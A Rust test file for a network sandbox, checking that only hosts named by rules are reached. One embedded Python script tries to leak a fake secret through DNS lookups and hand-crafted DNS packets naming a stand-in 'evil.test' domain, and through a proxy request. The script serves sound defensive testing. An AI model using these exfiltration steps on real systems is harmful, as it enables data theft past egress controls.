//! The network by name in a world of the test's own: what the host's own resolver is asked for, what it answers, and where somebody
//! arrives are the witness.

use cofferdam_tests::attack::{Attack, TIERS, Tier, WAY};
use cofferdam_tests::own_resolver::{ADDRESSES, PORT, attack_in_world, run_in_world};
use cofferdam_tests::scratch::Scratch;
use cofferdam_tests::skip;
use std::process::Command;

/// Options that allow each of `entries` on the world's port.
fn allowed(entries: &[&str]) -> Vec<String> {
    let entry = |host: &&str| if host.contains(':') { format!("[{host}]:{PORT}") } else { format!("{host}:{PORT}") };
    entries.iter().flat_map(|host| ["--allow-net".to_owned(), entry(host)]).collect()
}

fn strings(options: &[String]) -> Vec<&str> {
    options.iter().map(String::as_str).collect()
}

#[test]
fn net_12_nothing_of_a_name_that_no_rule_names_leaves_this_machine() {
    let Some(attack) = Attack::new(&format!(
        "{WAY}
secret = 's3cr3t' * 8
attempt('named', lambda: get('four.world.test', {PORT}))
for name in [secret + '.evil.test', secret + '.four.world.test', secret + '.world.test', secret]:
    attempt('looked-up', lambda: socket.getaddrinfo(name, {PORT}))
    attempt('connected', lambda: way(name, {PORT}))
def question(kind): return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + bytes([48]) + secret.encode() + b'\\4evil\\4test\\0' + struct.pack('>HH', kind, 1)
def datagram(server, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.sendto(question(kind), (server, 53))
    if s.recv(512)[3] & 15 not in (3, 5): raise Exception('answered')
    raise ConnectionRefusedError(errno.ECONNREFUSED, 'refused')
def stream(server):
    s = socket.create_connection((server, 53), 10); s.sendall(struct.pack('>H', len(question(1))) + question(1))
    if s.recv(512)[5] & 15 not in (3, 5): raise Exception('answered')
    raise ConnectionRefusedError(errno.ECONNREFUSED, 'refused')
for server in ['127.0.0.1', '9.9.9.9', '203.0.113.53']:
    for kind in [1, 28, 16, 255]: attempt('asked-by-hand', lambda: datagram(server, kind))
    attempt('asked-by-stream', lambda: stream(server))
if 'ALL_PROXY' in os.environ:
    s, own = proxied(os.environ['ALL_PROXY']); s.sendall(('GET http://' + secret + '.evil.test/ HTTP/1.1\\r\\nHost: ' + secret + '.evil.test\\r\\n' + own + '\\r\\n\\r\\n').encode())
    show(s.recv(64)[:12])
attempt('done', lambda: None)
"
    )) else {
        return;
    };
    for tier in TIERS {
        let options = allowed(&["four.world.test", ADDRESSES[0]]);
        let Some(told) = attack_in_world(tier, &attack, &strings(&options)) else { return };
        assert_eq!((told.of("named"), told.of("done")), (Some("ok"), Some("ok")), "{tier:?}: {told:?}");
        for name in ["looked-up", "connected", "asked-by-hand", "asked-by-stream"] {
            let lines: Vec<_> = told.printed.lines().filter(|line| line.starts_with(name)).collect();
            assert!(
                !lines.is_empty() && lines.iter().all(|line| !line.ends_with(" ok") && !line.contains("Exception("))
            );
        }
        assert!(told.asked("four.world.test"), "control: {told:?}");
        assert!(!told.asked("s3cr3t"), "{tier:?}: a name left: {told:?}");
    }
}

#[test]
fn net_14_what_is_dialled_is_what_was_judged_however_a_name_s_answers_change() {
    let Some(attack) = Attack::new(&format!(
        "{WAY}
for name in ['four', 'six', 'both', 'chain', 'inner']: attempt(name, lambda: get(name + '.world.test', {PORT}))
for turn in range(4): attempt('flips', lambda: get('flips.world.test', {PORT}))
attempt('flips-elsewhere', lambda: get('flips.world.test', {PORT} + 1))
"
    )) else {
        return;
    };
    let mut options = allowed(&["*.world.test", ADDRESSES[0], ADDRESSES[1]]);
    options.extend(["--allow-net".to_owned(), format!("*.world.test:{}", PORT + 1)]);
    for tier in TIERS {
        let Some(told) = attack_in_world(tier, &attack, &strings(&options)) else { return };
        for name in ["four", "six", "both"] {
            assert_eq!(told.of(name), Some("ok"), "{tier:?}: {name}: {told:?}");
        }
        for name in ["chain", "inner", "flips-elsewhere"] {
            assert!(told.of(name).is_some_and(|answer| answer != "ok"), "{tier:?}: {name}: {told:?}");
        }
        assert!(told.arrived("9.9.9.9") > 0 && told.arrived("2606:4700::77") > 0, "{tier:?}: {told:?}");
        assert!(told.asked("chain.world.test") && told.asked("flips.world.test"), "{tier:?}: {told:?}");
        assert_eq!(told.arrived("127.0.0.1"), 0, "{tier:?}: {told:?}");
    }
    // Where a rule names loopback on this port, they do arrive there: the answers are such.
    options.extend(allowed(&["127.0.0.1"]));
    let Some(told) = attack_in_world(Tier::Full, &attack, &strings(&options)) else { return };
    assert!(told.of("chain") == Some("ok") && told.of("flips") == Some("ok"), "control: {told:?}");
    assert!(told.arrived("127.0.0.1") >= 3, "control: {told:?}");
}

/// Connects to the address that it was compiled with, knows of no names and no variables, and prints what comes.
const FIXED: &str = r#"
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in four = { .sin_family = AF_INET, .sin_port = htons(PORT) };
    struct sockaddr_in6 six = { .sin6_family = AF_INET6, .sin6_port = htons(PORT) };
    int is_four = inet_pton(AF_INET, ADDRESS, &four.sin_addr) == 1, s = socket(is_four ? AF_INET : AF_INET6, SOCK_STREAM, 0);
    if (!is_four) inet_pton(AF_INET6, ADDRESS, &six.sin6_addr);
    char text[512]; ssize_t n; const char *ask = "GET / HTTP/1.0\r\n\r\n";
    if (connect(s, is_four ? (void *)&four : (void *)&six, is_four ? sizeof four : sizeof six)) { perror("connect"); return 1; }
    if (write(s, ask, strlen(ask)) < 0) { perror("write"); return 1; }
    while ((n = read(s, text, sizeof text)) > 0) fwrite(text, 1, n, stdout);
    if (n < 0) { perror("read"); return 1; }
    return 0;
}
"#;

#[test]
fn p6_a_static_program_with_an_address_compiled_in_reaches_it_where_a_rule_names_that() {
    let Some(compiler) = skip::program("gcc") else { return };
    for address in ADDRESSES {
        let place = Scratch::new();
        place.write("fixed.c", FIXED);
        let mut build = Command::new(&compiler);
        build.arg(format!("-DADDRESS=\"{address}\"")).arg(format!("-DPORT={PORT}"));
        let built = build.args(["-static", "-o", "fixed", "fixed.c"]).current_dir(place.path()).output().unwrap();
        if !built.status.success() {
            return skip::skipped("there is no static C library");
        }
        let at = if address.contains(':') { format!("[{address}]:{PORT}") } else { format!("{address}:{PORT}") };
        let run = |tier, entries: &[&str]| run_in_world(tier, &place, &strings(&allowed(entries)), &["./fixed"]);
        let Some(told) = run(Tier::Full, &[address]) else { return };
        assert!(
            told.printed.contains(&format!("hello {address}\n")) && told.printed.contains("result 0\n"),
            "{told:?}"
        );
        // A name that leads there opens the name alone; and through a proxy, of which such a program knows nothing, no address at all.
        for (tier, entries) in [(Tier::Full, ["both.world.test"]), (Tier::Landlock, ["both.world.test"])] {
            let started = std::time::Instant::now();
            let Some(told) = run(tier, &entries) else { return };
            assert!(started.elapsed() < std::time::Duration::from_secs(30), "{tier:?}: it waited: {told:?}");
            assert_eq!(told.arrived(address), 0, "{tier:?}: {told:?}");
            assert!(told.printed.contains("result 1\n"), "{tier:?}: {told:?}");
            let stderr = String::from_utf8_lossy(&told.whole.stderr);
            assert!(stderr.contains(&format!("network.connect of {at} for fixed")), "{tier:?}: {stderr}");
            // A rule helps where there is a network to hold it in; without one, the proxy.
            let hint = format!("network.allow = [\"{at}\"]");
            assert!(tier == Tier::Landlock || stderr.contains(&hint), "{tier:?}: {stderr}");
        }
    }
}
